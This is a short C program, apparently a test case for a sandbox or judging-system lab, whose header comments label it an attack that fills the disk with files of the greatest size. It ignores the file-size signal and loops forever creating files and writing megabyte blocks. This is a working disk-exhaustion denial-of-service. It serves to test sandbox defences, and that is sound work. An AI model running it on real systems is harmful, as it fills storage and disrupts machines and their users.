// Attack:  fills the disk with files of the greatest size
// Lab:     fork
// Defence: several
// Without: no-result
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void) {
  static char bytes[1 << 20];
  signal(SIGXFSZ, SIG_IGN);
  alarm(60);
  for (int number = 0;; ++number) {
    char name[32];
    snprintf(name, sizeof name, "file%d", number);
    const int fd = open(name, O_WRONLY | O_CREAT, 0600);
    if (fd < 0) usleep(1000);  // sleep: what it does
    while (write(fd, bytes, sizeof bytes) > 0) {
    }
    close(fd);
  }
}
